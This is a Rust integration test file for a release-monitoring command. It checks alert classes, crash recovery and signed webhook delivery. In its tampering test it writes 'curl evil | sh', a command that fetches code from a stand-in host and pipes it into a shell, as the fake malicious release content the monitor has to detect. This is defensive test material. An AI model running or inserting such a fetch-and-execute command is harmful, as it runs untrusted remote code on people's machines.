//! `countersign monitor` as its owner runs it: the four classes, each by a real fault, told to
//! real sinks; killed, restarted, acknowledged (docs/monitoring.md).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use countersign_tests::bench::{Bench, bench, get};
use countersign_tests::{Process, Said, Storage, binary};
use serde_json::Value;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpListener;
use std::process::Command;
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

/// A log, a project, its storage, and a monitor's configuration.
struct Owner {
    bench: Bench,
    storage: Storage,
}

const SINK: &str = "[[sink]]\nname = \"lines\"\nfile = \"alerts.jsonl\"\n";

impl Owner {
    fn new() -> Self {
        let bench = bench();
        for directory in ["announced", "served"] {
            std::fs::create_dir(bench.path(directory)).unwrap();
        }
        let storage = Storage::serve(&bench.path("served")).unwrap();
        Self { bench, storage }
    }

    /// Writes `monitor.toml`: the log polled each second, with these further lines.
    fn configure(&self, more: &str) {
        let text = format!(
            "api-version = \"countersign/v1\"\nstate = \"monitor\"\n{more}\n\
             [[log]]\npolicy = \"policy.toml\"\nevery = 1\nexpected = {{ bundles = \"announced\" }}\n"
        );
        // Tables come after the settings above them.
        std::fs::write(self.bench.path("monitor.toml"), text).unwrap();
    }

    /// Publishes a version and serves it with its bundle.
    fn publish(&self, version: &str, announced: bool) {
        self.bench.published(version, "release1");
        let name = format!("tool-{version}");
        let bundle = format!("{name}.bundle");
        for file in [&name, &bundle] {
            std::fs::copy(self.bench.path(file), self.bench.path("served").join(file)).unwrap();
        }
        if announced {
            let to = self.bench.path("announced").join(&bundle);
            std::fs::copy(self.bench.path(&bundle), to).unwrap();
        }
    }

    fn once(&self) -> Said {
        let said = self.bench.client("monitor --once --config monitor.toml");
        assert!(!said.err.contains("panicked"), "{}", said.err);
        said
    }

    /// A run ends so; what it says.
    fn ends(&self, code: i32) -> String {
        let said = self.once();
        let out = String::from_utf8(said.out).unwrap();
        assert_eq!(said.code, code, "{out}\n{}", said.err);
        out
    }

    fn open(&self) -> Vec<Value> {
        let listed = self
            .bench
            .json("monitor alerts --config monitor.toml --json");
        listed["alerts"].as_array().unwrap().clone()
    }

    fn acknowledge_all(&self) {
        for alert in self.open() {
            let id = alert["alert"].as_str().unwrap();
            self.bench.ok(&format!(
                "monitor ack {id} --config monitor.toml --by test --note seen"
            ));
        }
    }

    fn lines(&self, file: &str) -> Vec<Value> {
        let text = std::fs::read_to_string(self.bench.path(file)).unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn start(&self) -> Process {
        let mut command = Command::new(binary("countersign").unwrap());
        command
            .args(["monitor", "--config", "monitor.toml"])
            .current_dir(self.bench.dir.path());
        Process::start(command).unwrap()
    }
}

fn watch(owner: &Owner, name: &str) -> String {
    format!(
        "[[watch]]\nurl = \"{}/{name}\"\npolicy = \"policy.toml\"\nevery = 1\n",
        owner.storage.url
    )
}

/// Of an outage nobody may read that somebody attacks.
fn says_no_attack(said: &str) {
    let said = said.to_lowercase();
    for word in ["tamper", "compromis", "attack"] {
        assert!(!said.contains(word), "{word}: {said}");
    }
}

#[test]
fn each_class_is_provoked_by_a_real_fault_and_tells_itself_apart() {
    let mut owner = Owner::new();
    owner.publish("1.0.0", true);
    let config = format!("{SINK}{}", watch(&owner, "tool-1.0.0"));
    owner.configure(&config);
    assert_eq!(owner.ends(0).trim(), "no open alerts");

    // A release that the pipeline announced is recorded, and nobody is told.
    owner.publish("1.1.0", true);
    owner.ends(0);
    let records = std::fs::read_to_string(owner.bench.path("monitor/records.jsonl")).unwrap();
    assert!(records.contains("1.1.0"), "{records}");
    let raised = |lines: &[Value]| lines.iter().filter(|l| l["type"] == "alert").count();
    assert_eq!(raised(&owner.lines("alerts.jsonl")), 0);

    // Unexpected: a valid release that nobody announced. It stays until it is acknowledged.
    owner.publish("1.2.0", false);
    let said = owner.ends(5);
    assert!(
        said.contains("UNEXPECTED IDENTITY") && said.contains("1.2.0"),
        "{said}"
    );
    owner.ends(5);
    owner.acknowledge_all();
    owner.ends(0);

    // Degraded: the log is away. It passes by itself.
    owner.bench.stop();
    let said = owner.ends(4);
    assert!(said.contains("DEGRADED"), "{said}");
    says_no_attack(&said);
    owner.bench.serve();
    owner.ends(0);

    // Operational: a sink that cannot be reached.
    let broken = format!("[[sink]]\nname = \"broken\"\nfile = \"no/such/place\"\n{config}");
    owner.configure(&broken);
    let said = owner.ends(4);
    assert!(said.contains("OPERATIONAL"), "{said}");
    says_no_attack(&said);
    std::fs::create_dir_all(owner.bench.path("no/such")).unwrap();
    std::thread::sleep(Duration::from_secs(9));
    owner.ends(0);

    // Tampering: other bytes are served, as in 2021.
    let served = owner.bench.path("served/tool-1.0.0");
    let good = std::fs::read(&served).unwrap();
    std::fs::write(&served, "curl evil | sh\n").unwrap();
    let said = owner.ends(6);
    assert!(said.contains("TAMPERING"), "{said}");
    // The attacker takes it back: the alert stays, and so do the bytes.
    std::fs::write(&served, good).unwrap();
    owner.ends(6);
    let kept = std::fs::read_dir(owner.bench.path("monitor/quarantine")).unwrap();
    let kept = kept.filter_map(|f| std::fs::read(f.ok()?.path()).ok());
    assert!(kept.into_iter().any(|bytes| bytes == b"curl evil | sh\n"));
    owner.acknowledge_all();
    owner.ends(0);

    let lines = owner.lines("alerts.jsonl");
    let mut classes: Vec<&str> = lines.iter().filter_map(|l| l["class"].as_str()).collect();
    classes.sort_unstable();
    classes.dedup();
    assert_eq!(
        classes,
        ["degraded", "operational", "tampering", "unexpected"]
    );
}

#[test]
fn from_an_unexpected_release_to_the_alert_it_takes_an_interval_and_two_seconds() {
    let owner = Owner::new();
    owner.publish("1.0.0", true);
    owner.configure(&format!("listen = \"127.0.0.1:0\"\n{SINK}"));
    let monitor = owner.start();
    let metrics = |path: &str| fetch(&monitor.url, path);
    let until = Instant::now() + Duration::from_secs(20);
    while !metrics("/metrics").contains("alerts_open{class=\"unexpected\"} 0")
        || !metrics("/metrics").contains("log_size_leaves")
    {
        assert!(Instant::now() < until, "{}", metrics("/metrics"));
        std::thread::sleep(Duration::from_millis(50));
    }
    owner.publish("6.6.6", false);
    let published = Instant::now();
    let told = || {
        let mut lines = owner.lines("alerts.jsonl").into_iter();
        lines.any(|l| l["class"] == "unexpected" && l.to_string().contains("6.6.6"))
    };
    while !told() {
        assert!(
            published.elapsed() < Duration::from_secs(60),
            "nobody was told"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // A timed limit would fail on a loaded machine; the time is in docs/benchmarks.md.
    println!("told after {:?}", published.elapsed());
    assert!(metrics("/metrics").contains("alerts_open{class=\"unexpected\"} 1"));
    assert!(metrics("/healthz").starts_with("ok"));
    // Acknowledged while it runs.
    owner.acknowledge_all();
    let until = Instant::now() + Duration::from_secs(20);
    while !metrics("/metrics").contains("alerts_open{class=\"unexpected\"} 0") {
        assert!(Instant::now() < until);
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn killed_at_any_moment_it_forgets_nothing_and_tells_it_under_one_id() {
    let owner = Owner::new();
    owner.publish("1.0.0", true);
    owner.configure(&format!("listen = \"127.0.0.1:0\"\n{SINK}"));
    let mut random = countersign_tests::random::Random::new(6);
    let mut versions = Vec::new();
    for turn in 0..8u64 {
        let monitor = owner.start();
        let version = format!("2.0.{turn}");
        owner.publish(&version, false);
        versions.push(version);
        std::thread::sleep(Duration::from_millis(random.below(1500)));
        // Dropped, it is killed with SIGKILL.
        drop(monitor);
    }
    owner.ends(5);
    let lines = owner.lines("alerts.jsonl");
    for version in versions {
        let about: Vec<&Value> = lines
            .iter()
            .filter(|l| l.to_string().contains(&version))
            .collect();
        let mut messages: Vec<String> = about.iter().map(|l| l["message"].to_string()).collect();
        assert!(!messages.is_empty(), "{version} was lost");
        // It may be told twice, and whoever was told can see that it is the same.
        messages.dedup();
        assert_eq!(messages.len(), 1, "{version}: {messages:?}");
    }
    assert_eq!(owner.open().len(), 8);
}

#[test]
fn a_webhook_that_was_down_gets_all_of_it_signed_and_an_unacknowledged_alert_goes_further() {
    let owner = Owner::new();
    owner.publish("1.0.0", true);
    let secret = "whsec_AAECAwQFBgcICQoLDA0ODxAREhMUFRYX";
    std::fs::write(owner.bench.path("secret"), secret).unwrap();
    // An address at which nobody listens yet.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    drop(listener);
    let hook = format!(
        "listen = \"127.0.0.1:0\"\n[alerts]\nrepeat-after = 3600\nescalate-after = 1\n\
         [[sink]]\nname = \"hook\"\nwebhook = \"http://{address}/alerts\"\nsecret-file = \"secret\"\n\
         {SINK}\
         [[sink]]\nname = \"second\"\nlevel = 2\nfrom = \"unexpected\"\nfile = \"second.jsonl\"\n"
    );
    owner.configure(&hook);
    owner.publish("3.0.0", false);
    let _monitor = owner.start();
    let until = Instant::now() + Duration::from_secs(30);
    let failing = |l: &Value| l["kind"] == "sink-failing";
    let escalated = |l: &Value| l["why"] == "escalated" && l.to_string().contains("3.0.0");
    while !owner.lines("alerts.jsonl").iter().any(failing)
        || !owner.lines("second.jsonl").iter().any(escalated)
    {
        assert!(Instant::now() < until, "{:?}", owner.lines("alerts.jsonl"));
        std::thread::sleep(Duration::from_millis(50));
    }
    // It comes up, and fails once more in the middle: the second attempt has the same id.
    let received = receive(TcpListener::bind(address).unwrap());
    let mut seen = Vec::new();
    let until = Instant::now() + Duration::from_secs(60);
    let again = |seen: &[(String, Value)]| {
        let first = seen.first().map(|(id, _)| id);
        seen.iter().skip(1).any(|(id, _)| Some(id) == first)
    };
    while !(again(&seen) && seen.iter().any(|(_, body)| body["class"] == "unexpected")) {
        let left = until.saturating_duration_since(Instant::now());
        seen.push(received.recv_timeout(left).expect("the webhook gets it"));
    }
    for (id, body) in &seen {
        assert_eq!(body["message"], id.as_str());
    }
}

/// A receiver that checks signatures and refuses the first message.
fn receive(listener: TcpListener) -> Receiver<(String, Value)> {
    let (send, received) = channel();
    std::thread::spawn(move || {
        for (n, stream) in listener.incoming().map_while(Result::ok).enumerate() {
            let mut reader = BufReader::new(&stream);
            let (mut headers, mut line) = (Vec::new(), String::new());
            while reader.read_line(&mut line).unwrap() > 2 {
                if let Some((name, value)) = line.trim_end().split_once(": ") {
                    headers.push((name.to_lowercase(), value.to_owned()));
                }
                line.clear();
            }
            let header = |name: &str| {
                let found = headers.iter().find(|(n, _)| n == name);
                found.map(|(_, v)| v.clone()).unwrap_or_default()
            };
            let mut body = vec![0; header("content-length").parse().unwrap()];
            reader.read_exact(&mut body).unwrap();
            let id = header("webhook-id");
            let key: Vec<u8> = (0..24).collect();
            let signed = [
                format!("{id}.{}.", header("webhook-timestamp")).as_bytes(),
                &body,
            ]
            .concat();
            let want = format!("v1,{}", ledger::b64(&keys::hmac_sha256(&key, &signed)));
            assert_eq!(header("webhook-signature"), want);
            let status = if n == 0 { "503 Busy" } else { "204 No Content" };
            let mut out = &stream;
            let _ = write!(
                out,
                "HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            let _ = send.send((id, serde_json::from_slice(&body).unwrap()));
        }
    });
    received
}

fn fetch(url: &str, path: &str) -> String {
    let (_, body) = get(url.strip_prefix("http://").unwrap(), path);
    String::from_utf8(body).unwrap()
}

#[test]
fn wrong_usage_and_configurations_are_2_and_say_what_to_do() {
    let owner = Owner::new();
    owner.configure(SINK);
    for (kind, args) in [
        ("no-config", "monitor --once"),
        ("no-config", "monitor --once --config nowhere.toml"),
        (
            "no-such-alert",
            "monitor ack 0123456789abcdef --config monitor.toml",
        ),
        (
            "contradictory",
            "monitor --once check --config monitor.toml",
        ),
    ] {
        owner.bench.refused(2, kind, args);
    }
    std::fs::write(owner.bench.path("monitor.toml"), "nonsense = 1\n").unwrap();
    owner.bench.refused(
        2,
        "config-malformed",
        "monitor --once --config monitor.toml",
    );
    // Without any sink it still counts.
    owner.configure("");
    let said = owner.bench.client("monitor check --config monitor.toml");
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(String::from_utf8(said.out).unwrap().contains("acme/tool"));
}

#[test]
fn an_address_at_which_there_is_no_log_is_degraded_from_the_start() {
    let owner = Owner::new();
    // A server that answers, and knows nothing of a log.
    let policy = std::fs::read_to_string(owner.bench.path("policy.toml")).unwrap();
    let elsewhere = policy.replace(&owner.bench.url, &owner.storage.url);
    assert_ne!(elsewhere, policy);
    std::fs::write(owner.bench.path("policy.toml"), elsewhere).unwrap();
    owner.configure(SINK);
    let said = owner.ends(4);
    assert!(said.contains("log-absent"), "{said}");
    says_no_attack(&said);
}
